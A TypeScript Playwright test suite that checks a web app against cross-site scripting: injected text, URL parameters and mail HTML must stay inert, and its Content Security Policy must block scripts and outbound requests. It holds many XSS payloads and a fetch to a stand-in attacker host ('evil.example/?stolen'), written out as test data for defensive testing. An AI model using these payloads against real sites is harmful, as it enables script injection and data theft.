import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Reader } from '../pages/reader.ts';
import { at, whole } from '../pages/screens.ts';
import { hostileHouse, PAYLOADS } from './hostile-house.ts';
import type { HostileHouse } from './hostile-house.ts';

let reader: Reader;
let ids: HostileHouse;
/** Tabs of somebody signed in: where the browser's policy is off, and where it is on. */
let free: Page;
let guarded: Page;
const ran: string[] = [];
beforeAll(async () => {
  reader = await Reader.start();
  ids = await hostileHouse(reader.whole);
  [free, guarded] = await Promise.all([tab(true), tab(false)]);
}, 120_000);
afterAll(() => reader.stop());

/** A signed-in tab in which every call of `hacked`, and every dialog, is remembered. */
async function tab(withoutPolicy: boolean): Promise<Page> {
  const page = await reader.signedIn({ bypassCSP: withoutPolicy });
  await page.exposeFunction('hacked', () => void ran.push(page.url()));
  page.on('dialog', (dialog) => {
    ran.push(`a dialog at ${page.url()}`);
    void dialog.dismiss();
  });
  return page;
}

async function visit(page: Page, path: string): Promise<void> {
  await at(page, [path, '']);
}

const SCREENS = (): string[] => [
  '/',
  '/improvements',
  ...ids.improvements.slice(0, 3).map((id) => `/improvements/${encodeURIComponent(id)}`),
  `/improvements/${encodeURIComponent(ids.improvements.at(-1) ?? '')}`,
  '/customers',
  ...ids.customers.slice(0, 2).map((id) => `/customers/${id}`),
  '/outbox',
  `/outbox/${ids.message}`,
  '/flows',
  `/flows/${ids.flow}`,
  '/loops',
  `/loops/${ids.loop}`,
  '/feedback',
  '/sources',
  '/house-rules',
  '/people',
  '/audit',
  '/me',
];

describe('what others wrote', () => {
  it('is text on every screen, even where no policy of the browser stands in the way', async () => {
    const page = free;
    for (const path of SCREENS()) {
      await visit(page, path);
      for (const more of await page.getByRole('button', { expanded: false }).all())
        await more.click({ timeout: 500 }).catch(() => undefined);
      expect.soft(ran, path).toEqual([]);
      const attributes = await page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap((one) =>
          [...one.attributes]
            .filter(
              ({ name, value }) =>
                /^on/i.test(name) ||
                (/^(?:href|src|action|formaction|xlink:href)$/i.test(name) && /^\s*(?:javascript|data:text|vbscript):/i.test(value)),
            )
            .map(({ name, value }) => `${name}=${value}`),
        ),
      );
      expect.soft(attributes, path).toEqual([]);
    }
    expect(await page.locator('body').innerText()).not.toBe('');
  }, 120_000);

  it('is there at all, as it was written', async () => {
    const page = free;
    await visit(page, `/improvements/${encodeURIComponent(ids.improvements[1] ?? '')}`);
    expect(await page.locator('body').innerText()).toContain('<img src=x onerror=hacked()>');
  });

  it('is text in what a search finds, and in what was typed', async () => {
    const page = free;
    for (const typed of ['<script>hacked()', '<img src=x onerror=hacked()>', '" autofocus onfocus=hacked() x="']) {
      await page.keyboard.press('Control+k');
      const box = page.getByRole('combobox', { name: 'Find or do' });
      await box.waitFor();
      await box.fill(typed);
      await page.waitForLoadState('networkidle');
      await box.fill('script');
      await page.getByRole('option').filter({ hasText: 'script' }).first().waitFor();
      await page.keyboard.press('Escape');
    }
    expect(ran).toEqual([]);
  });

  it('is text in an address that somebody was sent', async () => {
    const page = free;
    const payload = encodeURIComponent('"><img src=x onerror=hacked()>');
    for (const path of [
      `/customers?q=${payload}`,
      `/outbox?state=${payload}&improvement=${payload}`,
      `/loops?flow=${payload}&status=${payload}`,
      `/improvements/${payload}`,
      `/customers/${payload}`,
      `/${payload}`,
      `/#${payload}`,
      `/?javascript:hacked()#<script>hacked()</script>`,
    ]) {
      await page.goto(`${reader.address}${path}`);
      const shown = page.getByRole('heading', { level: 1 }).or(page.getByRole('alert'));
      await shown.first().waitFor({ timeout: 10_000 });
      await whole(page);
      expect.soft(await page.locator('img[src="x"]').count(), path).toBe(0);
    }
    const signedOut = await reader.open({ bypassCSP: true }, `/sign-in#link=${payload}`);
    await signedOut.getByRole('heading', { level: 1 }).first().waitFor();
    expect(await signedOut.locator('img[src="x"]').count()).toBe(0);
    await signedOut.close();
    expect(ran).toEqual([]);
  });
});

describe('a mail', () => {
  it('has in its HTML nothing but paragraphs and links of ours, as a mail program reads it', async () => {
    const rows = await reader.whole.db.messages.find({ 'content.html': { $ne: null } }).lean();
    expect(rows.length).toBeGreaterThan(PAYLOADS.length - 2);
    const page = await reader.open({ javaScriptEnabled: true, bypassCSP: true });
    await page.exposeFunction('hacked', () => void ran.push('a mail'));
    for (const { content } of rows) {
      await page.setContent(content?.html ?? '');
      const found = await page.evaluate(() => {
        const allowed = new Set(['HTML', 'HEAD', 'META', 'TITLE', 'BODY', 'P', 'BR', 'A', 'BDI', 'DIV', 'SPAN', 'HR', 'SMALL']);
        return [...document.querySelectorAll('*')].flatMap((one) => [
          ...(allowed.has(one.tagName) ? [] : [one.outerHTML]),
          ...[...one.attributes].filter(({ name }) => /^(?:on|style|src)/i.test(name)).map(({ name }) => name),
          ...(one instanceof HTMLAnchorElement && !/^https?:\/\/(?:localhost:3000|a\.example)\//.test(one.href) ? [one.href] : []),
        ]);
      });
      expect.soft(found).toEqual([]);
    }
    expect(ran).toEqual([]);
    await page.close();
  });
});

describe('the policy of the browser, as a second wall', () => {
  it('runs nothing that a page did not come with, however it got in', async () => {
    const page = guarded;
    await visit(page, '/');
    await page.evaluate(() => {
      const inline = document.createElement('script');
      inline.textContent = 'hacked()';
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      document.body.append(foreign);
      const data = document.createElement('script');
      data.src = 'data:text/javascript,hacked()';
      document.body.append(data);
      const held = document.createElement('div');
      held.innerHTML =
        '<img src=x onerror=hacked()><svg onload=hacked()></svg><iframe srcdoc="<script>parent.hacked()</script>"></iframe><a id="leads" href="javascript:hacked()">x</a><base href="https://evil.example/"><object data="data:text/html,x"></object>';
      document.body.append(held);
      document.getElementById('leads')?.click();
    });
    const blocked = (): number => reader.complaints.filter((one) => /Content Security Policy/.test(one)).length;
    await expect.poll(blocked).toBeGreaterThanOrEqual(7);
    expect(ran).toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).toContain(reader.address);
    reader.complaints.length = 0;
  });

  it('sends nothing elsewhere, and lets nobody frame a page', async () => {
    const page = guarded;
    await visit(page, '/');
    const sent = await page.evaluate(async () => {
      const tries = [
        () => fetch('https://evil.example/?stolen'),
        () => fetch('http://127.0.0.1:1/?stolen'),
        () => Promise.resolve(new WebSocket('wss://evil.example/')).then((socket) => new Promise((_, no) => (socket.onerror = no))),
      ];
      return Promise.all(
        tries.map((go) =>
          go().then(
            () => 'sent',
            () => 'blocked',
          ),
        ),
      );
    });
    expect(sent).toEqual(['blocked', 'blocked', 'blocked']);
    const violations = reader.complaints.filter((one) => /connect-src/.test(one));
    expect(violations.length).toBeGreaterThanOrEqual(3);
    reader.complaints.length = 0;
  });

  it('has nothing to complain about in the pages themselves, with all of this in them', async () => {
    const page = guarded;
    reader.complaints.length = 0;
    for (const path of [
      '/',
      `/improvements/${encodeURIComponent(ids.improvements[1] ?? '')}`,
      `/customers/${ids.customers[1] ?? ''}`,
      '/audit',
      '/people',
    ])
      await visit(page, path);
    expect(reader.complaints).toEqual([]);
    expect(ran).toEqual([]);
  });
});

describe('an address that a browser would run', () => {
  it.each([
    'javascript:hacked()',
    'JaVaScRiPt:hacked()',
    ' javascript:hacked()',
    'java\nscript:hacked()',
    'data:text/html,<script>hacked()</script>',
    'vbscript:x',
    'blob:x',
  ])('is no evidence, and nothing to look at: %j', async (url) => {
    const { whole } = reader;
    const { body } = await whole.post<{ id: string }>('/api/improvements', { themes: ['t-3'], title: 'Evidence', change: 'it is so' });
    await whole.post(`/api/improvements/${body.id}/ship`, {});
    const refused = await whole.post<{ problems: { path: string }[] }>(`/api/improvements/${body.id}/verify`, {
      evidence: [{ text: 'x', url }],
    });
    expect(refused.status).toBe(422);
    expect(refused.body.problems[0]?.path).toBe('evidence.0.url');
    expect((await whole.ask('PATCH', `/api/improvements/${body.id}`, { seeAt: url })).status).toBe(422);
  });
});
